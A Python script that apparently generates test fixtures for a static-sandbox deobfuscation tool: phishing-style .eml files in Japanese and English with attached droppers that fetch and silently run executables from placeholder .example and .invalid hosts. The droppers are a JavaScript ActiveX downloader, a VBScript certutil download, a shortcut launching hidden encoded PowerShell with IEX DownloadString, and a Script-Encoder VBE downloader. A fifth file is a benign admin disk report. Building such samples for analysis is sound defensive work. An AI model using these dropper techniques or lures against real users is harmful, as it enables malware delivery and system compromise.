#!/usr/bin/env python3
"""Write the static-sandbox examples of examples/sandbox/ (issue 18).

Run from anywhere:  /usr/bin/python3 examples/sandbox/make_sandbox.py

Droppers as Emotet-class campaigns send them, written here: the URLs and
commands they hide point at .example and .invalid hosts, the programs they
would fetch do not exist.  Each hides its download URL or command from a
plain reading (Chr() codes, String.fromCharCode, StrReverse, split
strings, an -EncodedCommand, the Script Encoder, whose encoder is taken from
tests/deob/screnc_oracle.py); mamori's static sandbox
(docs/documents.md, "The static sandbox") folds them back.  The last one
is an ordinary administrator's PowerShell script: nothing to recover.
"""

import base64
import os
import sys

HERE = os.path.dirname(os.path.abspath(__file__))
ROOT = os.path.join(HERE, "..", "..")
sys.path.insert(0, os.path.join(ROOT, "examples", "documents"))
sys.path.insert(0, os.path.join(ROOT, "tests", "support"))
sys.path.insert(0, os.path.join(ROOT, "tests", "deob"))

import make_documents  # noqa: E402  (mail(), lnk(), docm building)


def ps_enc(script):
    """PowerShell's -EncodedCommand form of script: base64 of UTF-16LE."""
    return base64.b64encode(script.encode("utf-16-le")).decode("ascii")


JS_DROPPER = r"""// 請求書ビューア
var p = String.fromCharCode(104, 116, 116, 112, 115, 58, 47, 47);
var h = "cdn-inv" + "oice" + ".example";
var f = "/dl/" + "uykies".split("").reverse().join("") + ".exe";
var x = new ActiveXObject("MSXML2.XMLHTTP");
x.open("GET", p + h + f, false);
x.send();
var s = new ActiveXObject("ADODB.Stream");
s.Type = 1; s.Open(); s.Write(x.responseBody);
s.SaveToFile("C:\\Users\\Public\\seikyu.exe", 2);
new ActiveXObject("WScript.Shell").Run("C:\\Users\\Public\\seikyu.exe", 0);
"""

VBS_DROPPER = (
    'Dim u\r\n'
    'u = Chr(104) & Chr(116) & Chr(116) & Chr(112) & "://" & StrReverse("elpmaxe.rotubirtsid")'
    ' & "/f/" & "inv.e" & "xe"\r\n'
    'CreateObject("WScript.Shell").Run "cmd /c certutil -urlcache -split -f " & u & '
    '" %TEMP%\\inv.exe && %TEMP%\\inv.exe", 0\r\n')

PS_INNER = ("$u = 'https://update-check.invalid/s/p.ps1'\n"
            "IEX (New-Object Net.WebClient).DownloadString($u)\n")

VBE_PLAIN = (
    'Set x = CreateObject("MSXML2.XMLHTTP")\r\n'
    'x.Open "GET", "http://" & Join(Array("files", "share-box", "example"), ".") & "/a/" & Chr(106) & ".exe", False\r\n'
    'x.Send\r\n'
    'Set s = CreateObject("ADODB.Stream")\r\n'
    's.Type = 1: s.Open: s.Write x.ResponseBody: s.SaveToFile "C:\\Users\\Public\\j.exe", 2\r\n'
    'CreateObject("WScript.Shell").Run "C:\\Users\\Public\\j.exe", 0\r\n')

ADMIN_PS1 = """# Weekly disk report for the file servers (IT department)
$servers = @('fs01', 'fs02')
foreach ($s in $servers) {
    Get-CimInstance -ComputerName $s Win32_LogicalDisk |
        Select-Object DeviceID, @{n='FreeGB'; e={[math]::Round($_.FreeSpace / 1GB, 1)}} |
        Format-Table -AutoSize
}
"""


def main():
    mail = make_documents.mail
    mail(os.path.join(HERE, "01-js-dropper.eml"), "【請求書】12月分のご請求",
         "12月分の請求書を添付いたします。ご確認ください。\n", "請求書_1207.js",
         "application/octet-stream", JS_DROPPER.encode("utf-8"),
         sender="経理部 <keiri@torihiki.example>")
    mail(os.path.join(HERE, "02-vbs-chr-url.eml"), "打ち合わせ資料の送付",
         "資料を添付します。開いてご確認ください。\n", "資料_1207.vbs",
         "application/octet-stream", VBS_DROPPER.encode("ascii"))
    mail(os.path.join(HERE, "03-shortcut-encoded-powershell.eml"), "Scan_20261207",
         "Your scanned document is attached.\n", "Scan_20261207.pdf.lnk",
         "application/octet-stream",
         make_documents.lnk("..\\..\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
                            "-nop -w hidden -enc " + ps_enc(PS_INNER)),
         sender="Scanner <scanner@example.com>")
    import screnc_oracle  # the Script Encoder, from its published tables
    mail(os.path.join(HERE, "05-encoded-vbscript.eml"), "【重要】年末調整のお知らせ",
         "年末調整の書類を添付します。ダブルクリックして開いてください。\n", "年末調整.vbe",
         "application/octet-stream", screnc_oracle.block(VBE_PLAIN.encode("ascii")),
         sender="人事部 <jinji@example.co.jp>")
    mail(os.path.join(HERE, "04-admin-script.eml"), "ディスク使用量レポートのスクリプト",
         "週次レポート用のスクリプトを共有します。\n", "disk-report.ps1",
         "text/plain", ADMIN_PS1.encode("utf-8"), sender="情報システム部 <it@example.co.jp>")


if __name__ == "__main__":
    main()
